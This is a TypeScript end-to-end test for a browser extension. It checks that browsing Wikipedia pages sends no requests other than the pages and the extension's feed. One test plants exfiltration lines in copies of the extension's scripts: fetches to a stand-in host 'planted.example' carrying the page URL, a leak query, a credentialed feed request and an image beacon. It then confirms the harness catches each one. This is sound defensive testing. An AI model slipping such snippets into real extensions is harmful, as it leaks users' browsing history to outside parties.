/** Nothing about what a person reads leaves the browser. */
import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { FEED_URL } from "../../utils/sites.ts";
import { startWiki, type WikiServer } from "../wiki/server.ts";
import {
  BROWSERS,
  buildFolder,
  decided,
  loaded,
  openPanel,
  travel,
  until,
  visit,
} from "./driver.ts";
import { type Extended, openExtended } from "./extension.ts";
import { feedRequests, foreignRequests } from "./foreign-requests.ts";

const EN = "https://en.wikipedia.org";
const META = "https://meta.wikimedia.org";
const MOZILLA = `${EN}/wiki/Mozilla`;
const DEMO = `${META}/wiki/Partnership_demo`;
const RIVER = `${EN}/wiki/Amazon_River`;
/** In the order a person goes: partners, traps, other wikis, and pages that are no articles. */
const TOUR = [
  DEMO,
  MOZILLA,
  RIVER,
  `${EN}/wiki/Firefox`,
  "https://fr.wikipedia.org/wiki/Mozilla",
  "https://ar.wikipedia.org/wiki/Mozilla",
  "https://en.m.wikipedia.org/wiki/Mozilla",
  `${EN}/wiki/Special:Version`,
  `${EN}/wiki/Main_Page`,
  `${EN}/w/index.php?title=Mozilla&action=edit`,
];
const STAFF_TOUR = [`${EN}/wiki/Rwanda`, `${EN}/wiki/Worm_(software)`];
/** A cookie such as a logged-in person has, which no request for the feed may carry. */
const LOG_IN = 'document.cookie = "session=secret; path=/; Secure; SameSite=None"';

let wiki: WikiServer;
let browser: Extended | undefined;
beforeAll(async () => {
  wiki = await startWiki();
  const feed = readFileSync(join("public", "feed.json"));
  const isFeed = (url: URL) => url.href === FEED_URL;
  wiki.handle(new URL(FEED_URL).hostname, isFeed, (request, response) => {
    const isKnown = request.headers["if-none-match"] === '"1"';
    response.writeHead(isKnown ? 304 : 200, { ETag: '"1"', "Content-Type": "application/json" });
    response.end(isKnown ? undefined : feed);
  });
});
afterAll(() => wiki.stop());
beforeEach(() => wiki.clearRequests());
afterEach(() => browser?.close());

describe.each(BROWSERS)("in %s", (name) => {
  it("a whole visit asks for its pages, and twice for the feed", async () => {
    browser = await openExtended(name, { port: wiki.port });
    await until(async () => feedRequests(wiki).length === 1);
    await makeTour(browser);
    await browser.inBackground('await api.alarms.create("refresh", clone({ when: Date.now() }))');
    await until(async () => feedRequests(wiki).length === 2);
    await visit(browser.driver, RIVER);

    expect(foreignRequests(wiki, [...TOUR, ...STAFF_TOUR])).toEqual([]);
    // Once after the installation and once by the alarm, however many pages were opened.
    expect(feedRequests(wiki).map(({ headers }) => headers["if-none-match"])).toEqual([
      undefined,
      '"1"',
    ]);
  });

  it("a planted request does not go unseen, wherever it goes", async () => {
    const planted = mkdtempSync(join(tmpdir(), "planted-"));
    try {
      cpSync(buildFolder(name, "test"), planted, { recursive: true });
      appendFileSync(
        join(planted, "background.js"),
        `fetch("https://planted.example/background").catch(() => {});
         fetch("${EN}/w/api.php?leak=background").catch(() => {});
         chrome.runtime.onMessage.addListener(() => {
           fetch("${FEED_URL}", { credentials: "include" }).catch(() => {});
         });`,
      );
      appendFileSync(
        join(planted, "detect.js"),
        `fetch("https://planted.example/page?" + location.href).catch(() => {});
         new Image().src = "/beacon?" + location.href;`,
      );
      browser = await openExtended(name, { port: wiki.port, extensionDir: planted });
      await visit(browser.driver, DEMO);
      await browser.driver.evaluate(LOG_IN);
      await visit(browser.driver, MOZILLA);
      const expected = [
        "GET https://planted.example/background: no page of this test is there",
        "connection to planted.example",
        `GET ${EN}/w/api.php?leak=background: not a part of a page ("empty")`,
        `GET ${FEED_URL}: the feed was asked for with cookie`,
        `GET ${EN}/beacon?${MOZILLA}: no page of a wiki has such a part`,
        // Firefox holds what a content script asks for to the wiki's own content policy.
        name === "chromium" &&
          `GET https://planted.example/page?${MOZILLA}: no page of this test is there`,
      ].filter((line) => line !== false);
      await until(async () => {
        const found = foreignRequests(wiki, [DEMO, MOZILLA]);
        return expected.every((line) => found.includes(line));
      });
    } finally {
      rmSync(planted, { recursive: true });
    }
  });
});

/** A person's way through the wikis, with the panel, the history and staff mode. */
async function makeTour({ driver, inBackground }: Extended): Promise<void> {
  for (const address of TOUR) {
    await visit(driver, address);
    await driver.evaluate(LOG_IN);
    if (address === MOZILLA || address === DEMO) await openPanel(driver);
  }
  for (const steps of [-2, 1]) {
    await travel(driver, steps);
    await loaded(driver);
    await decided(driver);
  }
  await inBackground("await api.storage.local.set(clone({ settings: { staffMode: true } }))");
  for (const address of STAFF_TOUR) {
    expect(await visit(driver, address)).toBeGreaterThan(0);
    await openPanel(driver);
  }
}
